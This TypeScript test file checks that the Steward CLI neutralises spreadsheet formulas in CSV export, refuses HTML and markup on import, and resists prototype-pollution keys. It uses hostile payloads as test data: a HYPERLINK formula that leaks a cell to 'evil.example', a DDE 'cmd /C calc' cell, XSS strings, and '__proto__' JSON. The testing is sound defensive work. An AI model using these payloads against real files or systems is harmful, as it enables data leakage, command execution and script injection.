// Hostile text in the CSV files Steward writes and reads, run as `steward ...` would run them (in-process,
// real database): spreadsheet formulas are neutralised on export and restored on import, the import
// refuses what the chat refuses, and "__proto__"-style keys neither pollute nor crash.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../src/cli/main.ts';
import { memoryIO } from '../src/cli/io.ts';
import { neutraliseCell, restoreCell } from '../src/csv-cell.ts';
import { readText } from '../src/intake/understand/free-text.ts';
import { writeTestPolicy } from './support/policy.ts';

/** What a spreadsheet runs as a formula (OWASP's CSV-injection list). */
const FORMULA_START = /^[=+\-@\t\r]/u;
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

let dir: string;
let env: Record<string, string>;

async function run(argv: string[], database = 'db') {
  const io = memoryIO({ env: { ...env, PGLITE_DIR: path.join(dir, database) }, cwd: dir });
  const code = await main(argv, io);
  return { code, out: io.out, err: io.err };
}

function cells(csv: string): string[] {
  return (parse(csv, { relax_column_count: true }) as string[][]).flat();
}

type Exported = { owner: Record<string, unknown>; profile: Record<string, unknown>; tier: string };

async function exportedJson(database: string): Promise<Exported[]> {
  const result = await run(['apps', 'export', '--format', 'json'], database);
  expect(result.code).toBe(0);
  return (JSON.parse(result.out) as Exported[]).map(({ owner, profile, tier }) => ({ owner, profile, tier }));
}

function csvFile(rows: Array<Record<string, string>>): string {
  // quoted: a leading tab or CR survives the reader's trimming, as it would from a careful attacker.
  return stringify(rows, { header: true, quoted: true });
}

function app(fields: Record<string, string>): Record<string, string> {
  return {
    name: 'Plain app',
    description: 'Does a plain thing',
    platform: 'excel',
    department: 'Operations',
    audience: 'team',
    userCount: '3',
    dataCategories: 'internal',
    systems: '',
    aiUsed: 'false',
    criticality: 'low',
    externalSharing: 'false',
    ownerUserId: 'owner-1',
    ownerName: 'Olive Owner',
    ...fields,
  };
}

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'steward-csv-injection-'));
  env = { STEWARD_POLICY: await writeTestPolicy(dir), LOG_LEVEL: 'silent' };
});
afterAll(async () => rm(dir, { recursive: true, force: true }));

describe('a neutralised cell', () => {
  it.each(['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', "'=1", "''+1", "'\t", "'", "'plain", 'a=b', '', 'plain'])(
    '%j is never a formula and restores exactly',
    (text) => {
      expect(neutraliseCell(text)).not.toMatch(FORMULA_START);
      expect(restoreCell(neutraliseCell(text))).toBe(text);
    },
  );
  it('gets one quote only where one is needed', () => {
    expect(neutraliseCell('=1+1')).toBe("'=1+1");
    expect(neutraliseCell("'=1+1")).toBe("''=1+1");
    expect(neutraliseCell("'plain")).toBe("'plain");
    expect(restoreCell("'plain")).toBe("'plain");
  });
});

describe('spreadsheet formulas in exported CSV', () => {
  // Registered through `steward apps import`, the way such names reach Steward besides the chat.
  const hostile = [
    app({
      name: HYPERLINK,
      description: '+1+1 adds up',
      department: '-2+3',
      ownerName: '@SUM(A1)',
      ownerUserId: "=cmd|' /C calc'!A0",
      systems: '=Evil:write;Jira:read',
    }),
    app({ name: '+1+1', description: '@SUM(A1) of the costs', department: '=1+2', ownerName: '-Eve' }),
    app({ name: '-2+3', description: '-minus first', ownerName: '+Plus' }),
    app({ name: '@SUM(A1)', department: '@Ops', ownerUserId: '@owner', systems: '@Evil:read' }),
    app({ name: '\t=tab first', description: '\t+tab first', department: '\t-Tab', ownerName: '\t@Tab owner' }),
    app({ name: '\r=cr first', description: '\r+cr first', department: '\r-CR', ownerName: '\r@CR owner' }),
    // A CSV cell ''=x is how Steward writes the text '=x, so these store '=already quoted and ''@many.
    app({ name: "''=already quoted", description: "'''@many quotes", department: "''-Dept", ownerName: "''+Owner" }),
    // A display name of emoji only is a person's own choice on their platform: it round-trips too.
    app({ name: 'Fox tracker', ownerName: '🦊' }),
  ];

  it('registers the hostile names as given, less white space and the one quote the CSV format adds', async () => {
    await writeFile(path.join(dir, 'hostile.csv'), csvFile(hostile));
    const imported = await run(['apps', 'import', 'hostile.csv']);
    expect(imported.err).toBe('');
    expect(imported.code).toBe(0);
    const apps = await exportedJson('db');
    expect(apps.map((exported) => exported.profile.name)).toEqual([
      HYPERLINK,
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '=tab first',
      '=cr first',
      "'=already quoted",
      'Fox tracker',
    ]);
    expect(apps[7]!.owner).toMatchObject({ displayName: '🦊' });
    expect(apps[0]!.owner).toMatchObject({ userId: "=cmd|' /C calc'!A0", displayName: '@SUM(A1)' });
    expect(apps[6]!.profile).toMatchObject({ description: "''@many quotes", department: "'-Dept" });
  });

  it('`apps export --format csv` writes no cell a spreadsheet would run, and imports back unchanged', async () => {
    const exported = await run(['apps', 'export', '--format', 'csv']);
    expect(exported.code).toBe(0);
    const written = cells(exported.out);
    expect(written.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(written).toEqual(
      expect.arrayContaining([`'${HYPERLINK}`, "'=cmd|' /C calc'!A0", "'=Evil:write;Jira:read", "''=already quoted"]),
    );

    await writeFile(path.join(dir, 'export.csv'), exported.out);
    const reimported = await run(['apps', 'import', 'export.csv'], 'fresh');
    expect(reimported.err).toBe('');
    expect(reimported.out).toContain(`Imported ${hostile.length} app(s); 0 row(s) rejected.`);
    expect(await exportedJson('fresh')).toEqual(await exportedJson('db'));
  });

  it('`audit export --format csv` writes no cell a spreadsheet would run', async () => {
    const exported = await run(['audit', 'export', '--format', 'csv']);
    expect(exported.code).toBe(0);
    const written = cells(exported.out);
    expect(written.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    // The owners are the actors of their apps' registration.
    expect(written).toEqual(expect.arrayContaining(["'=cmd|' /C calc'!A0", "'@SUM(A1)", "'-Eve", "'@owner"]));
  });
});

describe('one plain-text rule for the chat and the import', () => {
  it('refuses markup and Slack broadcasts in the chat', () => {
    const limits = { min: 1, max: 120, what: 'name' };
    for (const typed of ['<script>alert(1)</script>', '<!channel> urgent', 'ping <@U024BE7LH>', '<at>All</at> app'])
      expect(readText(typed, limits)).toEqual({
        kind: 'miss',
        hint: 'Please write the name as plain text, without HTML or markup.',
      });
    expect(readText('R&D <EU> budget', limits)).toEqual({ kind: 'value', value: 'R&D <EU> budget' });
  });

  it('refuses the same text row by row in `apps import`, and imports the good rows', async () => {
    const rows = [
      app({ name: 'Good first' }),
      app({ name: '<script>alert(1)</script>' }),
      app({ name: '<!channel> urgent' }),
      app({ name: 'Bad description', description: 'See [here](http://evil.example)' }),
      app({ name: 'Bad department', department: '<img src=x onerror=alert(1)>' }),
      app({ name: 'Bad owner', ownerName: '<!here> Mallory' }),
      app({ name: 'Bad system', systems: '<b>Jira</b>:read' }),
      app({ name: 'Only symbols', department: '!!!' }),
      app({ name: 'x'.repeat(130) }),
      app({ name: 'Good last\u0000\u200b', description: 'Two\n lines' }),
    ];
    await writeFile(path.join(dir, 'markup.csv'), csvFile(rows));
    const result = await run(['apps', 'import', 'markup.csv'], 'markup');
    expect(result.code).toBe(1);
    expect(result.out).toContain('Imported 2 app(s); 8 row(s) rejected.');
    expect(result.err.trim().split('\n')).toEqual([
      'row 3: not imported: name: Please write the name as plain text, without HTML or markup.',
      'row 4: not imported: name: Please write the name as plain text, without HTML or markup.',
      'row 5: not imported: description: Please write the description as plain text, without HTML or markup.',
      'row 6: not imported: department: Please write the department as plain text, without HTML or markup.',
      'row 7: not imported: ownerName: Please write the owner name as plain text, without HTML or markup.',
      'row 8: not imported: systems: Please write the system name as plain text, without HTML or markup.',
      'row 9: not imported: department: The department needs at least one letter or digit.',
      'row 10: not imported: name: The name is 130 characters; please keep it under 120.',
    ]);
    const apps = await exportedJson('markup');
    expect(apps.map((exported) => [exported.profile.name, exported.profile.description])).toEqual([
      ['Good first', 'Does a plain thing'],
      // Cleaned as the chat cleans it: control characters gone, white space folded.
      ['Good last', 'Two lines'],
    ]);
  });
});

describe('"__proto__" and "constructor" keys', () => {
  const profile = JSON.stringify({
    name: 'Proto app',
    description: 'Tries to pollute',
    platform: 'excel',
    department: 'Ops',
    audience: 'team',
    userCount: 3,
    dataCategories: ['internal'],
    systems: [{ name: 'Jira', access: 'read' }],
    ai: { used: false },
    criticality: 'low',
    externalSharing: false,
  });
  const polluting = '{"polluted":"yes"}';

  it.each([
    [
      '__proto__ at the top',
      profile.replace('{', `{"__proto__":${polluting},`),
      '(root): Unrecognized key: "__proto__"',
    ],
    [
      'constructor.prototype at the top',
      profile.replace('{', `{"constructor":{"prototype":${polluting}},`),
      '(root): Unrecognized key: "constructor"',
    ],
    [
      '__proto__ in ai',
      profile.replace('"ai":{', `"ai":{"__proto__":${polluting},`),
      'ai: Unrecognized key: "__proto__"',
    ],
    [
      '__proto__ in a system',
      profile.replace('{"name":"Jira"', `{"__proto__":${polluting},"name":"Jira"`),
      'systems[0]: Unrecognized key: "__proto__"',
    ],
    ['__proto__ in an array item', `[${profile.replace('{', `{"__proto__":${polluting},`)}]`, '[0] (root)'],
  ])('`steward classify` refuses %s', async (_what, json, message) => {
    await writeFile(path.join(dir, 'proto.json'), json);
    const result = await run(['classify', 'proto.json', '--json']);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(result.code).toBe(2);
    expect(result.out).toBe('');
    expect(result.err).toContain('Invalid app profile in proto.json:');
    expect(result.err).toContain(message);
  });

  it('`steward apps import` ignores such CSV columns and imports the row', async () => {
    const header = 'name,__proto__,constructor,toString,hasOwnProperty,description,platform,department,audience';
    const rest = 'userCount,dataCategories,aiUsed,criticality,externalSharing,ownerUserId';
    const row = `Proto row,"${polluting.replace(/"/gu, '""')}",{},x,y,Tries to pollute,excel,Ops,team,3,internal,false,low,false,ana`;
    await writeFile(path.join(dir, 'proto.csv'), `${header},${rest}\n${row}\n`);
    const result = await run(['apps', 'import', 'proto.csv'], 'proto');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(result.err).toBe('');
    expect(result.code).toBe(0);
    expect(result.out).toContain('Imported 1 app(s); 0 row(s) rejected.');
    expect((await exportedJson('proto')).map((exported) => exported.profile.name)).toEqual(['Proto row']);
  });
});
